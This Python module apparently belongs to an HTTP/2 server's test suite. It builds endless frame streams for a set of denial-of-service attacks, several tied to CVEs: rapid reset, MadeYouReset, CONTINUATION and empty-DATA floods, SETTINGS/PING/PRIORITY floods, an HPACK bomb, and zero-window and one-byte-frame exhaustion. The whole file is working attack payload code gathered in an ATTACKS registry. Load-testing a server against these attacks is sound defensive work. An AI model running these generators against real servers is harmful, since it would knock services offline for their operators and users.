"""What hostile clients of HTTP/2 send behind the preface: frames without end, in pieces that are
sent whole.  For tests, and for test/bench/attacks."""
import itertools
import struct

from h2client import (CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS,
                      INITIAL_WINDOW, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, H2Client)

frame = H2Client.packed
BATCH = 50  # frames, or pairs of them, in a piece


def field(name, value):
    """Neither indexed nor compressed: RFC 7541 6.2.2.  Both shorter than 127 bytes."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def head(method=b"GET", path=b"/", host=b"hello"):
    return field(b":method", method) + field(b":scheme", b"http") + field(
        b":authority", host) + field(b":path", path)


def streams():
    return itertools.count(1, 2)


def again(data):
    while True:
        yield data


def rapid_reset(host=b"hello"):
    """CVE-2023-44487"""
    block, code, ids = head(host=host), struct.pack(">I", CANCEL), streams()
    while True:
        yield b"".join(frame(HEADERS, END_HEADERS | END_STREAM, i, block) +
                       frame(RST_STREAM, 0, i, code) for i in itertools.islice(ids, BATCH))


def made_you_reset(host=b"hello"):
    """CVE-2025-8671: requests that go on at the instance, and frames that make the server reset
    them."""
    block, window, ids = head(host=host), struct.pack(">I", 0x7fffffff), streams()
    while True:
        yield b"".join(frame(HEADERS, END_HEADERS | END_STREAM, i, block) +
                       frame(WINDOW_UPDATE, 0, i, window) for i in itertools.islice(ids, BATCH))


def continuation(host=b"hello"):
    """A head that does not end: CVE-2024-27316 and others."""
    yield frame(HEADERS, END_STREAM, 1, head(host=host))
    yield from again(frame(CONTINUATION, 0, 1, field(b"x-a", b"y" * 100) * 10) * 16)


def empty_continuation(host=b"hello"):
    yield frame(HEADERS, END_STREAM, 1, head(host=host))
    yield from again(frame(CONTINUATION, 0, 1) * 10 * BATCH)


def settings(host=b"hello"):
    return again(frame(SETTINGS) * 10 * BATCH)


def ping(host=b"hello"):
    return again(frame(PING, 0, 0, bytes(8)) * 10 * BATCH)


def priority(host=b"hello"):
    return again(frame(PRIORITY, 0, 1, struct.pack(">IB", 3, 9)) * 10 * BATCH)


def window_update(host=b"hello"):
    return again(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 10 * BATCH)


def empty_data(host=b"hello"):
    yield frame(HEADERS, END_HEADERS, 1, head(b"POST", host=host))
    yield from again(frame(DATA, 0, 1) * 10 * BATCH)


def hpack_bomb(host=b"hello"):
    """A field of 4000 bytes that each further byte repeats."""
    name = head(host=host) + b"\x40\x01x\x7f" + bytes([(4000 - 127) % 128 | 128, (4000 - 127) // 128])
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, name + b"y" * 4000)
    for i in itertools.count(3, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, i, head(host=host) + b"\xbe" * 16000)


def malformed(host=b"hello"):
    block, ids = head(host=host) + field(b"connection", b"close"), streams()
    while True:
        yield b"".join(frame(HEADERS, END_HEADERS | END_STREAM, i, block)
                       for i in itertools.islice(ids, BATCH))


def zero_window(host=b"hello", path=b"/1m"):
    """As many large responses as there may be streams, of which none is taken.  It ends: what
    follows is silence."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, 0))
    block = head(path=path, host=host)
    yield b"".join(frame(HEADERS, END_HEADERS | END_STREAM, i, block)
                   for i in itertools.islice(streams(), 100))


def one_byte_frames(host=b"hello"):
    """Bodies in frames of a byte, within the windows."""
    block = head(b"POST", b"/echo", host)
    for i in streams():
        yield frame(HEADERS, END_HEADERS, i, block) + frame(DATA, 0, i, b"x") * 500 + frame(
            DATA, END_STREAM, i, b"x")


ATTACKS = {f.__name__: f for f in (
    rapid_reset, made_you_reset, continuation, empty_continuation, settings, ping, priority,
    window_update, empty_data, hpack_bomb, malformed, zero_window, one_byte_frames)}
